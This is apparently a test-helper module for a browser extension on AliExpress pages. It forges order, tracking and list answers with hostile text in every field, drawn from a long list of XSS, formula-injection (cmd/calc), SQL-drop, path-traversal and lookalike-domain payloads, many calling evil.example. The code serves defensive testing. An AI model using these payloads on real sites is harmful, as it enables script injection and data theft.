// Answers as a hostile page would make them up, and the ways to have the hook mirror them.

import { detail, DETAIL, list, LIST, place, tracking, TRACKING } from '../site/answers.mjs';
import { find } from '../site/orders.mjs';

const AT = place('www.aliexpress.com');

/** A page that our scripts are on and that asks for nothing, shows no order and has no answers of its own. */
export const QUIET = 'https://www.aliexpress.com/p/message/index.html';
/** Order `n` of a hostile page's invention. */
export const forgedId = (n) => `81904419${String(n).padStart(8, '0')}`;
export const trackingPath = (id) => `/p/tracking/index.html?tradeOrderId=${id}`;

// Set by any payload that is carried out.
const HURT = 'window.hurt=1';
const EVIL = 'https://evil.example/hurt';
const tag = (name, attributes) => `<${name} ${attributes}>`;

/** What a hostile page, seller or carrier may write where words are expected. */
export const PAYLOADS = [
  `<script>${HURT}</script>`,
  tag('img', `src=x onerror="${HURT}"`),
  tag('img', `src="${EVIL}"`),
  `"><svg onload=${HURT}>`,
  `'><svg/onload=${HURT}//`,
  `</textarea></section></details><script>${HURT}</script>`,
  `</style><script>${HURT}</script>`,
  `</title></head><body onload=${HURT}>`,
  `--><script>${HURT}</script><!--`,
  `]]><script>${HURT}</script>`,
  `<style>@import "${EVIL}";*{display:none!important}</style>`,
  `<link rel=stylesheet href="${EVIL}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<iframe srcdoc="<script>parent.${HURT}</script>"></iframe>`,
  `<object data="${EVIL}"></object><embed src="${EVIL}">`,
  `<form action="${EVIL}"><button>Pay</button></form>`,
  `<details open ontoggle=${HURT}>`,
  `<input autofocus onfocus=${HURT}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${HURT}>`,
  `<template shadowrootmode=open><script>${HURT}</script></template>`,
  `&lt;img src=x onerror=${HURT}&gt; &#60;b&#62;`,
  `javascript:${HURT}`,
  `JaVaScRiPt:${HURT}//www.aliexpress.com/p/message/`,
  `java\tscript:${HURT}`,
  `data:text/html,<script>${HURT}</script>`,
  'vbscript:msgbox(1)',
  'blob:https://www.aliexpress.com/00000000-0000-4000-8000-000000000000',
  'https://msg.aliexpress.com.evil.example/msgDetail.htm?digest=1',
  'https://msg.aliexpress.com@evil.example/msgDetail.htm?digest=1',
  'https://evil@msg.aliexpress.com/msgDetail.htm?digest=1',
  '//evil.example/p/message/index.html',
  'https:\\\\evil.example\\p\\message\\index.html',
  'https://evil.example/p/reverse-pages/start.html',
  'https://www.aliexpress.com:8443/p/reverse-pages/start.html',
  'https://www.aliexpress.com/../..//evil.example/p/message/',
  'https://www.аliexpress.com/p/message/index.html',
  'https://www.aliexpress.com。evil.example/p/message/index.html',
  'https://www.xn--liexpress-yfg.com/p/reverse-pages/start.html',
  'http://msg.aliexpress.com.evil.example#@msg.aliexpress.com/',
  '\u202egpj.exe\u202c \u2066\u2067\u2068\u2069 \u200e\u200f\u061c',
  'a\u0000b\u0001c\u001b[31m\u007f\ufeff',
  '\ud800 alone \udfff',
  'e\u0301\u0300\u0302'.repeat(400),
  'W'.repeat(5000),
  '\u{1f4e6}'.repeat(600),
  '{{constructor.constructor("window.hurt=1")()}} ${window.hurt=1} <%= window.hurt=1 %> #{1}',
  '%s%n%d {order} {days| one: # day | other: # days} {0}',
  `=HYPERLINK("${EVIL}";"click")`,
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+1-1|cmd',
  '__proto__',
  'constructor',
  'toString',
  '../../../../etc/passwd',
  "'; DROP TABLE orders; --",
  `</script><script>${HURT}</script>`,
  `expression(${HURT});background:url(${EVIL})`,
  '\n\nmtop.ae.ld.querydetail\njsonp\n',
  '0x10 1e999 -0 NaN Infinity null undefined',
];

// By these the parts of an answer are found, and by these the days are told.
const PARTS = /^(api|v|ret|tag|type|position|result|orderId|tradeOrderId|protocolVersion)$/;
const DAYS = /^(time|timeText|.*Time|orderDateText|orderStatus|tracking(Primary|Second)Code|isTrackingV2)$/;

/** The answer with `payload` in every text; `keep`s what the fields it names say. */
function spoiled(value, payload, keep, name = '') {
  if (Array.isArray(value)) return value.map((each) => spoiled(each, payload, keep, name));
  if (typeof value === 'string') return keep(name) || (name === 'id' && value.length > 3) ? value : /mailno/i.test(name) ? `${payload}7` : payload;
  if (value === null || typeof value !== 'object') return value;
  const fields = Object.entries(value).map(([field, inner]) => [field, spoiled(inner, payload, keep, field)]);
  // fromEntries makes a field of its own even of __proto__.
  return Object.fromEntries([...fields, [payload, payload], ['__proto__', { hurt: payload }]]);
}

/** Keeps the parts only; keeps also what the rules judge by. */
export const nothing = (name) => PARTS.test(name);
export const days = (name) => PARTS.test(name) || DAYS.test(name);

const asOrder = (key, id, answer) => JSON.parse(JSON.stringify(answer).replaceAll(find(key).id, id));

/** Answers about an order `id` that goes as that of `key` does; `payload` stands in every text that is not kept. */
export function forged(api, key, id, payload, keep) {
  const made = asOrder(key, id, { [TRACKING]: tracking, [DETAIL]: detail }[api](AT, find(key).id));
  return JSON.stringify(payload === undefined ? made : spoiled(made, payload, keep));
}

/** A list of orders: [id, payload] each. */
export function forgedList(orders, keep) {
  const { data, ...envelope } = list(AT);
  const card = Object.entries(data.data).find(([name]) => name.startsWith('pc_om_list_order'))[1];
  const blocks = Object.entries(data.data).filter(([, { tag: kind }]) => kind !== 'pc_om_list_order');
  const cards = orders.map(([id, payload]) => [`pc_om_list_order_${id}`, spoiled(asOrder(card.id, id, card), payload, keep)]);
  return JSON.stringify({ ...envelope, data: { ...data, data: Object.fromEntries([...blocks, ...cards]) } });
}

/** The page goes to another address without loading. */
export const go = (page, path) => page.evaluate((to) => history.pushState({}, '', to), path);

/** The page gets an answer of its own making, over `way`. Nothing of it leaves the browser. */
export const give = (page, way, api, id, text) => page.evaluate(async (how, call, order, answer) => {
  const query = `data=${encodeURIComponent(JSON.stringify({ tradeOrderId: order }))}&`;
  const address = `/h5/${call.toLowerCase()}/1.0/?`;
  const held = () => `${URL.createObjectURL(new Blob([answer]))}#${address}${query}`;
  if (how === 'fetch') await (await fetch(held())).text();
  if (how === 'xhr') {
    await new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.open('GET', held());
      request.onload = resolve;
      request.send();
    });
  }
  if (how === 'jsonp') {
    await new Promise((resolve) => {
      window.forgedAnswer = JSON.parse(answer);
      window.forgedCall = resolve;
      const script = document.createElement('script');
      script.src = `data:text/javascript,/*${address}callback=forgedCall&${query}*/forgedCall(forgedAnswer)`;
      document.head.append(script);
      script.remove();
    });
  }
}, way, api, id, text);

export { DETAIL, LIST, TRACKING };
